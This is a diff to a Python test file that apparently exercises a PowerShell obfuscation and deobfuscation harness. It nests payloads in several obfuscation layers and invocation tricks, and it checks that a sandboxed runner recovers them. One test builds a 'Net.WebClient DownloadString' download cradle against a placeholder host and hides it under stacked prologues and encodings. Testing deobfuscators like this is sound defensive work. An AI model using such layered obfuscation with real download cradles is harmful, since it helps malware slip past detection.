@@ -7,18 +7,21 @@ import random as randoms
 
 import pytest
 from evaluate.powershell import obfuscate as o
+from evaluate.powershell import tricks
 from evaluate.powershell.psrun import run, value
 
 SEEDS = range(30)
+TEXTS = o.TEXTS | tricks.TEXTS
+INVOKES = o.INVOKES + tricks.INVOKES
 PAYLOADS = ("Write-Output 'INERT'", "http://a.example.test/x?y=1&z=%20", '$w = "it\'s"; {1} `t', "I", "INERT " * 20)
 
 
-@pytest.mark.parametrize("family", o.TEXTS)
+@pytest.mark.parametrize("family", TEXTS)
 def test_texts_come_back(family):
     for seed in SEEDS:
         random = randoms.Random(f"{family}{seed}")
         text = random.choice(PAYLOADS)
-        hidden = o.TEXTS[family](random, text)
+        hidden = TEXTS[family](random, text)
         assert value(hidden) == text, hidden
 
 
@@ -26,20 +29,20 @@ def test_texts_within_texts():
     for seed in range(60):
         random = randoms.Random(seed)
         text = random.choice(PAYLOADS[:2])
-        first, second = random.sample(sorted(o.TEXTS), 2)
-        hidden = o.TEXTS[second](random, f"throw {o.TEXTS[first](random, text)}")
+        first, second = random.sample(sorted(TEXTS), 2)
+        hidden = TEXTS[second](random, f"throw {TEXTS[first](random, text)}")
         assert run(f"iex {hidden}" if hidden.startswith(("(", "$", "'")) else f"iex ({hidden})").values("eval.error") == [text], hidden
 
 
-@pytest.mark.parametrize("number", range(len(o.INVOKES)))
+@pytest.mark.parametrize("number", range(len(INVOKES)))
 def test_ways_to_run_a_text(number):
     for seed in range(12):
         random = randoms.Random(f"{number}{seed}")
         code = f"(New-Object Net.WebClient).DownloadString('http://a.example.test/{seed}')"
-        hidden = o.TEXTS[random.choice(sorted(o.TEXTS))](random, code)
-        out = run(o.INVOKES[number](random, hidden))
-        assert out.urls == [f"http://a.example.test/{seed}"], o.INVOKES[number](random, hidden)
-        assert code in out.layers
+        hidden = TEXTS[random.choice(sorted(TEXTS))](random, code)
+        out = run(INVOKES[number](random, hidden))
+        assert out.urls == [f"http://a.example.test/{seed}"], INVOKES[number](random, hidden)
+        assert number >= len(o.INVOKES) or code in out.layers
 
 
 def test_encoded_commands():
@@ -77,6 +80,19 @@ def test_many_layers():
         out = run(code)
         assert out.urls == ["http://a.example.test/x"]
         assert len(out.layers) >= 6
+
+
+@pytest.mark.parametrize("block", range(8))
+def test_any_tricks_on_top_of_each_other(block):
+    """What fetches the program, behind a prologue, within three to five layers."""
+    for seed in range(25 * block, 25 * block + 25):
+        random = randoms.Random(seed)
+        code = random.choice(tricks.PROLOGUES) + random.choice(tricks.CRADLES)
+        for _ in range(random.randint(3, 5)):
+            if len(code) > 6_000:
+                break
+            code = INVOKES[random.randrange(len(INVOKES))](random, TEXTS[random.choice(sorted(TEXTS))](random, code))
+        assert run(code).urls == ["http://a.example.test/x"], (seed, code)
 
 
 @pytest.mark.parametrize("seed", range(6))
